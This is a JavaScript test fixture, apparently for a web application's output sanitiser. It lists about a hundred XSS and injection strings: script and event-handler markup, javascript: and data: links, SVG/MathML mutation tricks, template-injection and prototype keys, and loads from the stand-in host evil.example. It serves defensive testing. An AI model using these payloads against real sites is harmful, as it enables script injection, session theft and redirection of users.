// A hundred things that people write who want a page to do something: names, topics and messages. None may become anything but
// text. Each that runs calls `alert`, sets `window.hacked`, or asks `evil.example` for something; the page's policy forbids all
// three, and the tests look for them.
const CALL = "window.hacked=1";

const MARKUP = [
  `<script>${CALL}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script>${CALL}//`, `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`, `</title><script>${CALL}</script>`, `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`, `</script><script>${CALL}</script>`, `<!--<script>-->${CALL}</script>`,
  `<img src=x onerror=${CALL}>`, `<img src=x onerror="${CALL}">`, `<img/src=x/onerror=${CALL}>`, `<IMG SRC=x ONERROR=${CALL}>`,
  `<img src="javascript:${CALL}">`, `<img src=//evil.example/pixel.gif>`, `<img src=x onerror=&#119;indow.hacked=1>`,
  `<img srcset="//evil.example/x 1x">`, `"><img src=x onerror=${CALL}>`, `<image href=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`, `<svg/onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`, `<svg><a xlink:href="javascript:${CALL}"><text y=9>x`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<svg><set onbegin=${CALL} attributename=x>`, `<svg><use href="//evil.example/#x">`,
  `<svg><foreignObject><iframe src="javascript:${CALL}">`, `<math><mtext><script>${CALL}</script>`, `<math href="javascript:${CALL}">x</math>`,
  `<iframe src="javascript:${CALL}"></iframe>`, `<iframe srcdoc="<script>parent.hacked=1</script>">`, `<iframe src=//evil.example>`,
  `<object data="javascript:${CALL}">`, `<embed src="javascript:${CALL}">`, `<applet code=x>`, `<frameset onload=${CALL}>`,
  `<body onload=${CALL}>`, `<html onmouseover=${CALL}>`, `<input autofocus onfocus=${CALL}>`, `<select autofocus onfocus=${CALL}>`,
  `<textarea autofocus onfocus=${CALL}>`, `<button autofocus onfocus=${CALL}>`, `<details open ontoggle=${CALL}>x</details>`,
  `<video src=x onerror=${CALL}>`, `<video><source onerror=${CALL}>`, `<audio src=x onerror=${CALL}>`, `<marquee onstart=${CALL}>x</marquee>`,
  `<a href="javascript:${CALL}">click</a>`, `<a href=" javascript:${CALL}">click</a>`, `<a href="java&#9;script:${CALL}">click</a>`,
  `<a href="data:text/html,<script>${CALL}</script>">click</a>`, `<a href=//evil.example ping=//evil.example>click</a>`,
  `<form action="javascript:${CALL}"><button>x</form>`, `<form><button formaction="javascript:${CALL}">x`, `<isindex action="javascript:${CALL}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=import href=//evil.example>`, `<style>@import "//evil.example/x.css";</style>`,
  `<style>body{display:none}</style>`, `<div style="background:url(//evil.example/x)">`, `<div style="position:fixed;inset:0;z-index:9999">x</div>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example/>`, `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<table background=//evil.example/x>`, `<keygen autofocus onfocus=${CALL}>`, `<x onclick=${CALL} tabindex=1 id=x>x`,
];

const LINKS = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `javascript://evil.example/%0a${CALL}`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`, `file:///etc/passwd`, `blob:https://evil.example/x`, `https://good.example"onmouseover="${CALL}`,
  `https://good.example'><script>${CALL}</script>`, `https://user:password@evil.example/`, `http://evil.example\\@good.example/`,
  `https://good.example/\u202egpj.exe`, `[click](javascript:${CALL})`, `![x](x"onerror="${CALL})`,
];

const TEXTS = [
  `{{constructor.constructor('${CALL}')()}}`, "${" + CALL + "}", `#{${CALL}}`, `<%= ${CALL} %>`, `__proto__`, `constructor`, `toString`, `hasOwnProperty`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`, `&lt;script&gt;${CALL}&lt;/script&gt;`, `\\u003cscript\\u003e${CALL}`, `%3Cscript%3E${CALL}%3C/script%3E`,
  "`<img src=x onerror=" + CALL + ">`", "```\n</code></pre><img src=x onerror=" + CALL + ">\n```", `@<img src=x onerror=${CALL}>`, `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
];

export const hostile = [...MARKUP, ...LINKS, ...TEXTS];
